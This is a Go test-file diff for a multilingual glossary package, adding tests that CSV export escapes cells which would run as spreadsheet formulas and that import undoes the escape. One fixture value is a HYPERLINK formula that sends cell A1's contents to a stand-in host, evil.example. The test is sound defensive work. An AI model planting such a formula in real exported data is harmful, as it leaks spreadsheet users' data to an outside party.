@@ -2,10 +2,12 @@ package glossary
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -162,4 +164,212 @@ func (r *failingReader) Read(p []byte) (int, error) {
 	n := copy(p, r.data)
 	r.data = r.data[n:]
 	return n, nil
+}
+
+// formulaValues begin with every character a spreadsheet reads as the start of a formula, and
+// with the quote that escapes them, once and twice.
+var formulaValues = []string{
+	"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+	"+992 37 221 00 00",
+	"-5 degrees",
+	"@SUM(A1:A9)",
+	"\t=1+1",
+	"\r=1+1",
+	"'quoted' in the source",
+	"''twice",
+	"plain, with = inside",
+}
+
+// formulaTerms puts each of formulaValues in a note and, where a spelling may hold it, in an
+// English preferred form and a Russian accepted one and an Arabic variant.
+func formulaTerms() []Term {
+	arabic := []string{"ألف", "باء", "تاء", "ثاء", "جيم", "حاء", "خاء", "دال", "ذال"}
+	var terms []Term
+	for i, v := range formulaValues {
+		t := Term{
+			ID: fmt.Sprintf("formula-%d", i+1), Kind: KindOther, Arabic: []string{arabic[i]}, Note: v,
+			Targets: map[tarjuma.Lang]Forms{
+				tarjuma.Tajik: {Preferred: "Санҷиш"}, tarjuma.Russian: {Preferred: "Проверка"}, tarjuma.English: {Preferred: "Test"},
+			},
+		}
+		if cleanForm(v) {
+			t.Arabic = []string{v[:1] + arabic[i], arabic[i]}
+			t.Targets[tarjuma.English] = Forms{Preferred: v}
+			t.Targets[tarjuma.Russian] = Forms{Preferred: "Проверка", Accepted: []string{v}}
+		}
+		terms = append(terms, t)
+	}
+	return terms
+}
+
+// TestCSVFormulaEscape writes values that would run as formulas in a spreadsheet: no cell of the
+// export starts with = + - @ TAB or CR (each gets a "'" before it, as does a value that already
+// starts with "'"), and ReadCSV gives back every value exactly. The export is kept as
+// testdata/formula.csv (regenerate with -update), which reads and writes back byte for byte.
+func TestCSVFormulaEscape(t *testing.T) {
+	terms := formulaTerms()
+	if err := ValidateSet(terms); err != nil {
+		t.Fatalf("test terms are invalid: %v", err)
+	}
+	var out bytes.Buffer
+	if err := WriteCSV(&out, terms); err != nil {
+		t.Fatal(err)
+	}
+	compareGolden(t, "testdata/formula.csv", out.Bytes())
+
+	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	header := recs[0]
+	if want := "id,kind,ar,tg,ru,en,note,tg_forms,ru_forms"; strings.Join(header, ",") != want {
+		t.Fatalf("header %q, want %q", strings.Join(header, ","), want)
+	}
+	for r, rec := range recs[1:] {
+		for c, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %d, %s: %q starts a formula", r+1, header[c], cell)
+			}
+		}
+		v := formulaValues[r]
+		quoted := v
+		if v != "plain, with = inside" {
+			quoted = "'" + v
+		}
+		want := map[string]string{"note": quoted}
+		if cleanForm(v) {
+			want["ar"] = quoted[:len(quoted)-len(v)] + strings.Join(terms[r].Arabic, "|")
+			want["en"] = quoted
+			want["ru"] = "Проверка|" + v
+		}
+		for col, w := range want {
+			if got := rec[slices.Index(header, col)]; got != w {
+				t.Errorf("row %d %s written %q, want %q", r+1, col, got, w)
+			}
+		}
+	}
+	if got := recs[len(recs)-1][slices.Index(header, "note")]; got != "plain, with = inside" {
+		t.Errorf("a harmless value was changed: %q", got)
+	}
+
+	back, err := ReadCSV(bytes.NewReader(out.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(terms, back); diff != "" {
+		t.Errorf("written and read back (-written +read):\n%s", diff)
+	}
+
+	golden, err := os.ReadFile("testdata/formula.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	fromGolden, err := ReadCSV(bytes.NewReader(golden))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var again bytes.Buffer
+	if err := WriteCSV(&again, fromGolden); err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(string(golden), again.String()); diff != "" {
+		t.Errorf("formula.csv written back (-read +written):\n%s", diff)
+	}
+}
+
+// TestCSVEscapeEveryColumn checks that the escape is applied to every cell WriteCSV writes, the
+// forms columns and dates included, and undone on every cell ReadCSV reads: a file with every
+// cell quoted imports as the same file unquoted.
+func TestCSVEscapeEveryColumn(t *testing.T) {
+	in, err := os.ReadFile("testdata/roundtrip.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(in)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var quoted bytes.Buffer
+	w := csv.NewWriter(&quoted)
+	w.Write(recs[0])
+	for _, rec := range recs[1:] {
+		q := make([]string, len(rec))
+		for i, c := range rec {
+			q[i] = "'" + c
+		}
+		w.Write(q)
+	}
+	w.Flush()
+	want, err := ReadCSV(bytes.NewReader(in))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, err := ReadCSV(&quoted)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("every cell quoted (-plain +quoted):\n%s", diff)
+	}
+
+	for _, c := range []struct{ in, want string }{
+		{"", ""}, {"x", "x"}, {"=", "'="}, {"+", "'+"}, {"-", "'-"}, {"@", "'@"}, {"\t", "'\t"}, {"\r", "'\r"},
+		{"'", "''"}, {" =x", " =x"}, {"x=", "x="}, {"٫-", "٫-"},
+	} {
+		if got := escapeCell(c.in); got != c.want {
+			t.Errorf("escapeCell(%q) = %q, want %q", c.in, got, c.want)
+		}
+		if back := unescapeCell(escapeCell(c.in)); back != c.in {
+			t.Errorf("unescapeCell(escapeCell(%q)) = %q", c.in, back)
+		}
+	}
+}
+
+// TestCSVFromOtherTools reads a file another tool wrote, which escapes nothing: values that
+// begin with = + - @ import as they are, and only a leading "'" is ever removed.
+func TestCSVFromOtherTools(t *testing.T) {
+	in := "id,kind,ar,tg,ru,en,note,ru_forms\n" +
+		"minus,other,ناقص,Минус,-5 градусов,-5 degrees,-5 degrees at night,\n" +
+		"plus,other,زائد,Плюс,Плюс,+992,+992 is the country code,\n" +
+		"at,other,عند,Дар,@tarjuma,@tarjuma,@tarjuma on social media,gen=@tarjuma\n" +
+		"equals,other,يساوي,Баробар,Равно,=,=SUM(A1) typed by hand,\n" +
+		"quote,other,اقتباس,Иқтибос,Цитата,Quote,'one quote is taken for the escape,\n" +
+		"quotes,other,اقتباسان,Иқтибосҳо,Цитаты,Quotes,''of two one is left,\n"
+	terms, err := ReadCSV(strings.NewReader(in))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string][2]string{}
+	for _, term := range terms {
+		got[term.ID] = [2]string{term.Targets[tarjuma.English].Preferred, term.Note}
+	}
+	want := map[string][2]string{
+		"minus":  {"-5 degrees", "-5 degrees at night"},
+		"plus":   {"+992", "+992 is the country code"},
+		"at":     {"@tarjuma", "@tarjuma on social media"},
+		"equals": {"=", "=SUM(A1) typed by hand"},
+		"quote":  {"Quote", "one quote is taken for the escape"},
+		"quotes": {"Quotes", "'of two one is left"},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+	if ru := terms[0].Targets[tarjuma.Russian].Preferred; ru != "-5 градусов" {
+		t.Errorf("Russian %q", ru)
+	}
+	// Exported again, they are escaped, and read back unchanged.
+	var out bytes.Buffer
+	if err := WriteCSV(&out, terms); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(out.String(), ",'-5 degrees,'-5 degrees at night,") {
+		t.Errorf("export not escaped:\n%s", out.String())
+	}
+	back, err := ReadCSV(&out)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(terms, back); diff != "" {
+		t.Errorf("exported and read back (-imported +read):\n%s", diff)
+	}
 }
